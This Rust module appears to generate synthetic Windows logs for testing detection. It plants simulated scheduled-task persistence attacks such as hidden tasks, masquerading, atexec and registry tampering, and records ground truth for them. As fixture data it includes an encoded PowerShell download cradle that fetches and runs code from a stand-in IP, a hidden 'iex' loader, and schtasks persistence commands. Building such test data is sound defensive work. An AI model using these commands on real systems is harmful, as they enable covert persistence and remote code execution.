//! The planted attacks: a table of scenarios ([`SCENARIOS`]), each the host it goes on and how
//! it plays out there, written into that host's logs like any other event and named in the
//! ground truth.

use rand::Rng;
use rand::rngs::StdRng;

use super::catalog::{Action, RunAs, Schedule, TaskDef, Where};
use super::{
    Attack, Config, DOMAIN, DOMAIN_SID, Gen, Host, HostTask, US_PER_DAY, US_PER_H, US_PER_MIN,
    US_PER_S, task_xml,
};

/// The hosts the attacks are planted on: workstations picked in turn, and the first server.
pub(super) struct Targets {
    ws: Vec<usize>,
    srv: usize,
}

/// Workstation picks the attacks use (`Targets::pick(0..WS_PICKS)`).
const WS_PICKS: usize = 3;

impl Targets {
    /// `None` when no attack is planted.
    pub(super) fn of(hosts: &[Host], cfg: &Config) -> Option<Targets> {
        let n = hosts.len();
        if !cfg.attacks || n < 3 {
            return None;
        }
        Some(Targets {
            ws: (0..n).filter(|&i| !hosts[i].server).collect(),
            srv: (0..n).find(|&i| hosts[i].server).unwrap_or(n - 1),
        })
    }

    fn pick(&self, k: usize) -> usize {
        self.ws[k % self.ws.len()]
    }

    /// Whether host `i` is planted on.
    pub(super) fn hit(&self, i: usize) -> bool {
        i == self.srv || (0..WS_PICKS).any(|k| self.pick(k) == i)
    }
}

/// Where an attack is planted.
#[derive(Debug, Clone, Copy)]
enum On {
    /// The `k`th workstation pick.
    Workstation(usize),
    /// The first server.
    Server,
}

/// What playing a scenario out gives the ground truth: its words, and the task it names.
struct Played {
    description: String,
    task_name: String,
}

/// One planted attack.
struct Scenario {
    id: &'static str,
    technique: &'static str,
    on: On,
    /// Write its events into the host's logs (`tasks`: the host's own tasks; `attack`: its
    /// number, which its records carry).
    play: fn(&mut Gen<'_>, &[HostTask], &Config, usize) -> Played,
}

/// The attacks, in the order they are planted (and numbered).
const SCENARIOS: &[Scenario] = &[
    Scenario {
        id: "hidden-encoded-powershell",
        technique: "T1053.005",
        on: On::Workstation(0),
        play: hidden_encoded_powershell,
    },
    Scenario {
        id: "masquerading-rundll32",
        technique: "T1053.005, T1036.004, T1218.011",
        on: On::Workstation(1),
        play: masquerading_rundll32,
    },
    Scenario {
        id: "temporary-task-modification",
        technique: "T1053.005 (Sunburst / Solorigate)",
        on: On::Workstation(2),
        play: temporary_modification,
    },
    Scenario {
        id: "atexec-remote-task",
        technique: "T1053.005 (impacket atexec)",
        on: On::Server,
        play: atexec,
    },
    Scenario {
        id: "unusual-account",
        technique: "T1053.005",
        on: On::Server,
        play: unusual_account,
    },
];

/// Plant every scenario on its host. Returns the attacks (their records are filled in as
/// the logs are written).
pub(super) fn plant(
    gens: &mut [Gen<'_>],
    tasks: &[Vec<HostTask>],
    cfg: &Config,
    targets: Option<&Targets>,
) -> Vec<Attack> {
    let Some(targets) = targets else {
        return Vec::new();
    };
    SCENARIOS
        .iter()
        .enumerate()
        .map(|(id, s)| {
            let h = match s.on {
                On::Workstation(k) => targets.pick(k),
                On::Server => targets.srv,
            };
            let g = &mut gens[h];
            let played = (s.play)(g, &tasks[h], cfg, id);
            Attack {
                id: s.id.into(),
                technique: s.technique.into(),
                description: played.description,
                host: g.host.fqdn.clone(),
                task_name: played.task_name,
                records: Vec::new(),
                definition: None,
                registry: None,
                seen_in: Vec::new(),
            }
        })
        .collect()
}

/// The start of day `d` of the simulated period (the last day for later ones).
fn day(cfg: &Config, d: u32) -> i64 {
    cfg.start + i64::from(d.min(cfg.days - 1)) * US_PER_DAY
}

/// A hidden task that runs encoded PowerShell at logon, registered by the user.
fn hidden_encoded_powershell(
    g: &mut Gen<'_>,
    tasks: &[HostTask],
    cfg: &Config,
    id: usize,
) -> Played {
    let mid = cfg.days / 2;
    let user = g.host.user.clone();
    let path = "\\OneDriveSyncHelper".to_string();
    let action = Action::Exec {
        command: "powershell.exe",
        arguments: "-NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEAMAAvAGEAJwApAA==",
    };
    let sid = format!("{DOMAIN_SID}-{}", g.host.user_rid);
    let xml = task_xml(&super::TaskXml {
        uri: &path,
        author: &format!("{DOMAIN}\\{user}"),
        trigger_xml: Schedule::Logon.trigger_xml(),
        principal: &sid,
        group: false,
        highest: false,
        hidden: true,
        action: &action,
        working_dir: &format!("C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows"),
    });
    let t0 = day(cfg, mid) + 14 * US_PER_H + 17 * US_PER_MIN;
    g.lifecycle(t0, 4698, &path, &xml, Some(&user), Some(id));
    let task = HostTask {
        path: path.clone(),
        def: TaskDef {
            action,
            run_as: RunAs::User,
            schedule: Schedule::Logon,
            ..tasks[0].def
        },
        principal: format!("{DOMAIN}\\{user}"),
        principal_sid: sid,
        xml,
        installed: None,
    };
    let mut runs = vec![t0 + 2 * US_PER_MIN];
    for d in mid + 1..cfg.days {
        runs.extend(g.run_times(Schedule::Logon, d, cfg.start));
    }
    for at in runs {
        g.run(at, &task, None, Some(id));
    }
    Played {
        description: format!(
            "hidden task registered by {DOMAIN}\\{user}, runs powershell -NoP -W Hidden -Enc (a download cradle) at logon"
        ),
        task_name: path,
    }
}

/// A task masquerading under `\Microsoft\Windows\` that runs rundll32 on a DLL in
/// ProgramData.
fn masquerading_rundll32(g: &mut Gen<'_>, _: &[HostTask], cfg: &Config, id: usize) -> Played {
    let mid = cfg.days / 2;
    let path = "\\Microsoft\\Windows\\Maintenance\\CacheCleanup".to_string();
    let action = Action::Exec {
        command: "C:\\Windows\\System32\\rundll32.exe",
        arguments: "C:\\ProgramData\\Microsoft\\Crypto\\cachesvc.dll,DllRegisterServer",
    };
    let xml = system_xml(&path, MS_AUTHOR, Schedule::Daily, &action);
    let t0 = day(cfg, mid.saturating_sub(1)) + 22 * US_PER_H + 41 * US_PER_MIN;
    let user = g.host.user.clone();
    g.lifecycle(t0, 4698, &path, &xml, Some(&user), Some(id));
    let task = system_task(&path, action, Schedule::Daily, xml);
    for d in mid..cfg.days {
        for at in g.run_times(Schedule::Daily, d, cfg.start) {
            g.run(at, &task, None, Some(id));
        }
    }
    Played {
        description: "task under \\Microsoft\\Windows\\ with a forged Microsoft author runs rundll32 on a DLL in ProgramData as SYSTEM".into(),
        task_name: path,
    }
}

/// Sunburst-style: a legitimate task pointed at an attacker binary, run, then restored.
fn temporary_modification(g: &mut Gen<'_>, tasks: &[HostTask], cfg: &Config, id: usize) -> Played {
    let mid = cfg.days / 2;
    let legit = tasks
        .iter()
        .find(|t| t.path.ends_with("\\Consolidator"))
        .cloned()
        .unwrap_or_else(|| tasks[0].clone());
    let action = Action::Exec {
        command: "C:\\Windows\\Temp\\wsqmcons.exe",
        arguments: "-k netsvcs",
    };
    let evil_xml = task_xml(&super::TaskXml {
        uri: &legit.path,
        author: MS_AUTHOR,
        trigger_xml: legit.def.schedule.trigger_xml(),
        principal: &legit.principal_sid,
        group: false,
        highest: true,
        hidden: false,
        action: &action,
        working_dir: "",
    });
    let t0 = day(cfg, mid) + 2 * US_PER_H + 3 * US_PER_MIN;
    let by = "admin.jones";
    g.lifecycle(t0, 4702, &legit.path, &evil_xml, Some(by), Some(id));
    let evil = HostTask {
        xml: evil_xml,
        def: TaskDef {
            action,
            ..legit.def
        },
        ..legit.clone()
    };
    g.run(t0 + 40 * US_PER_S, &evil, Some(by), Some(id));
    g.lifecycle(
        t0 + 6 * US_PER_MIN,
        4702,
        &legit.path,
        &legit.xml,
        Some(by),
        Some(id),
    );
    Played {
        description: format!(
            "{} pointed at C:\\Windows\\Temp\\wsqmcons.exe, run on demand, and restored six minutes later",
            legit.path
        ),
        task_name: legit.path.clone(),
    }
}

/// ATSVC / atexec style: a randomly named task created remotely, run, deleted.
fn atexec(g: &mut Gen<'_>, _: &[HostTask], cfg: &Config, id: usize) -> Played {
    let name = random_task_name(&mut g.rng);
    let path = format!("\\{name}");
    let args = format!("/C whoami > %windir%\\Temp\\{name}.tmp 2>&1");
    // Actions hold static strings (the catalog is static); this one is made once per run.
    let action = Action::Exec {
        command: "cmd.exe",
        arguments: Box::leak(args.into_boxed_str()),
    };
    let xml = system_xml(&path, "", Schedule::Daily, &action);
    let t0 = day(cfg, cfg.days - 1) + 3 * US_PER_H + 33 * US_PER_MIN;
    g.lifecycle(t0, 4698, &path, &xml, Some("admin.jones"), Some(id));
    let task = system_task(&path, action, Schedule::Never, xml.clone());
    g.run(t0 + US_PER_S, &task, Some("admin.jones"), Some(id));
    g.lifecycle(
        t0 + 4 * US_PER_S,
        4699,
        &path,
        &xml,
        Some("admin.jones"),
        Some(id),
    );
    Played {
        description: "randomly named task created over the network, runs cmd.exe /C whoami into %windir%\\Temp, deleted seconds later".into(),
        task_name: path,
    }
}

/// A task created by an account that never creates tasks, on one host only.
fn unusual_account(g: &mut Gen<'_>, _: &[HostTask], cfg: &Config, id: usize) -> Played {
    let path = "\\SQL Cleanup".to_string();
    let action = Action::Exec {
        command: "C:\\Users\\Public\\Libraries\\sqlcln.exe",
        arguments: "",
    };
    let xml = system_xml(
        &path,
        &format!("{DOMAIN}\\svc_sql"),
        Schedule::Daily,
        &action,
    );
    let t0 = day(cfg, 1) + 23 * US_PER_H + 12 * US_PER_MIN;
    g.schtasks(
        t0,
        "svc_sql",
        "schtasks /create /tn \"SQL Cleanup\" /tr \"C:\\Users\\Public\\Libraries\\sqlcln.exe\" /sc daily /ru SYSTEM /f",
        "C:\\Windows\\System32\\cmd.exe",
        Some(id),
    );
    g.lifecycle(t0 + 200_000, 4698, &path, &xml, Some("svc_sql"), Some(id));
    let task = system_task(&path, action, Schedule::Daily, xml);
    for d in 2..cfg.days {
        for at in g.run_times(Schedule::Daily, d, cfg.start) {
            g.run(at, &task, None, Some(id));
        }
    }
    Played {
        description: "the SQL service account creates a SYSTEM task with schtasks, on one server only, running a binary from C:\\Users\\Public".into(),
        task_name: path,
    }
}

fn random_task_name(rng: &mut StdRng) -> String {
    (0..8)
        .map(|_| {
            let c = rng.random_range(0..52u8);
            (if c < 26 { b'a' + c } else { b'A' + c - 26 }) as char
        })
        .collect()
}

const MS_AUTHOR: &str = "Microsoft Corporation";

/// The definition of a planted task that runs as SYSTEM at the highest level, not hidden.
fn system_xml(path: &str, author: &str, schedule: Schedule, action: &Action) -> String {
    task_xml(&super::TaskXml {
        uri: path,
        author,
        trigger_xml: schedule.trigger_xml(),
        principal: "S-1-5-18",
        group: false,
        highest: true,
        hidden: false,
        action,
        working_dir: "",
    })
}

/// A planted task that runs as SYSTEM.
fn system_task(path: &str, action: Action, schedule: Schedule, xml: String) -> HostTask {
    let def = TaskDef {
        path: "",
        action,
        run_as: RunAs::System,
        schedule,
        author: "",
        hidden: false,
        highest: true,
        hosts: Where::All,
        installed_during: false,
    };
    HostTask {
        path: path.to_string(),
        def,
        principal: "NT AUTHORITY\\System".into(),
        principal_sid: "S-1-5-18".into(),
        xml,
        installed: None,
    }
}

/// A registry-level attack: nothing is logged (the registry is written directly, or the
/// task's keys changed after it was registered); the host's SOFTWARE hive, and where the
/// task keeps one its Tasks folder file, carry it.
pub(super) struct RegistryPlant {
    pub host: usize,
    pub attack: usize,
    pub name: String,
    /// The definition as registered (for a changed `Actions`: the file's, unchanged).
    pub xml: String,
    pub tamper: super::registry::Tamper,
    pub written: i64,
}

/// One registry-level scenario: its id, technique, words, task and change.
struct RegistryScenario {
    id: &'static str,
    technique: &'static str,
    description: &'static str,
    on: On,
    /// The task it makes (`None`: it changes one of the host's own tasks).
    task: Option<(&'static str, Schedule, Action)>,
    tamper: fn() -> super::registry::Tamper,
}

const REGISTRY_SCENARIOS: &[RegistryScenario] = &[
    RegistryScenario {
        id: "tarrask-hidden-task",
        technique: "T1053.005, T1564 (HAFNIUM Tarrask)",
        description: "task whose TaskCache Tree key lost its SD value: invisible to schtasks /query and the Task Scheduler UI, still running a binary in ProgramData as SYSTEM",
        on: On::Workstation(1),
        task: Some((
            "\\WinUpdate",
            Schedule::Hours(1),
            Action::Exec {
                command: "C:\\ProgramData\\Microsoft\\WinUpdate\\winupdate.exe",
                arguments: "",
            },
        )),
        tamper: || super::registry::Tamper::NoSd,
    },
    RegistryScenario {
        id: "index-zero-hidden-task",
        technique: "T1053.005, T1564",
        description: "task hidden by setting its Tree key's Index to 0; runs PowerShell from a file in C:\\Users\\Public",
        on: On::Server,
        task: Some((
            "\\Microsoft\\Windows\\Maintenance\\SvcRestart",
            Schedule::Daily,
            Action::Exec {
                command: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                arguments: "-w hidden -c iex (gc C:\\Users\\Public\\r.txt -raw)",
            },
        )),
        tamper: || super::registry::Tamper::IndexZero,
    },
    RegistryScenario {
        id: "ghosttask-registry-only",
        technique: "T1053.005 (GhostTask)",
        description: "task created by writing the TaskCache alone: no file in the Tasks folder, no 4698, no 106; runs a binary in C:\\Users\\Public at logon as SYSTEM",
        on: On::Workstation(0),
        task: Some((
            "\\Microsoft\\Windows\\UpdateSync",
            Schedule::Logon,
            Action::Exec {
                command: "C:\\Users\\Public\\updsync.exe",
                arguments: "--silent",
            },
        )),
        tamper: || super::registry::Tamper::RegistryOnly,
    },
    RegistryScenario {
        id: "registry-actions-edited",
        technique: "T1053.005",
        description: "a built-in task's registry Actions rewritten to run a binary in C:\\Windows\\Temp; its XML file still shows the original command",
        on: On::Workstation(2),
        task: None,
        tamper: || {
            super::registry::Tamper::Actions(
                "C:\\Windows\\Temp\\svchost.exe".into(),
                "-k netsvcs".into(),
            )
        },
    },
];

/// Plant the registry-level scenarios: their attacks are appended to `attacks`.
pub(super) fn plant_registry(
    tasks: &[Vec<HostTask>],
    hosts: &[Host],
    cfg: &Config,
    targets: Option<&Targets>,
    attacks: &mut Vec<Attack>,
) -> Vec<RegistryPlant> {
    let Some(targets) = targets else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for (k, s) in REGISTRY_SCENARIOS.iter().enumerate() {
        let host = match s.on {
            On::Workstation(k) => targets.pick(k),
            On::Server => targets.srv,
        };
        let written = day(cfg, cfg.days / 2) + (9 + k as i64) * US_PER_H + 3 * US_PER_MIN;
        let (name, xml) = match s.task {
            Some((name, schedule, action)) => {
                (name.to_string(), system_xml(name, "", schedule, &action))
            }
            // A built-in task of the host that runs a program as SYSTEM.
            None => match tasks[host].iter().find(|t| {
                t.installed.is_none()
                    && t.principal_sid == "S-1-5-18"
                    && matches!(t.def.action, Action::Exec { .. })
                    && t.path.starts_with("\\Microsoft\\Windows\\")
            }) {
                Some(t) => (t.path.clone(), t.xml.clone()),
                None => continue,
            },
        };
        attacks.push(Attack {
            id: s.id.into(),
            technique: s.technique.into(),
            description: s.description.into(),
            host: hosts[host].fqdn.clone(),
            task_name: name.clone(),
            records: Vec::new(),
            definition: None,
            registry: None,
            seen_in: Vec::new(),
        });
        out.push(RegistryPlant {
            host,
            attack: attacks.len() - 1,
            name,
            xml,
            tamper: (s.tamper)(),
            written,
        });
    }
    out
}
